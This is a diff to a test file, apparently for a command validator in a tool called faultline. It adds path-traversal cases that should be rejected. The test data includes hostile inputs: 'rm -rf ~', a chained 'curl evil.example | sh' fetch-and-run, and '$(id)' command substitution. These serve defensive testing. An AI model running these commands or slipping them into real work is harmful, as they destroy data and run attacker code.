@@ -23,7 +23,16 @@ it.each([
   for (const env of [{}, { npm_lifecycle_event: 'start' }]) expect(isReplayCommand(commandOf(workers, env))).toBe(true);
 });
 
+it.each(['incident.ts', './incident.ts', 'scenarios/captured-api-failing-2e87e3f1.ts'])(
+  'a command for the file %s is one',
+  (file) => expect(isReplayCommand(replayCommand(file, { seed: 7, workers: 'hardened', fresh: false }, {}))).toBe(true),
+);
+
 it.each([
+  'npx faultline run ../elsewhere/evil.ts --seed 7 --workers ours',
+  'npx faultline run scenarios/../../evil.ts --seed 7 --workers ours',
+  'npx faultline run /tmp/evil.ts --seed 7 --workers ours',
+  'npx faultline run -r.ts --seed 7 --workers ours',
   'rm -rf ~',
   'npx faultline run healthy --seed 7 --workers ours; curl evil.example | sh',
   'npx faultline run healthy --seed 7 --workers $(id)',
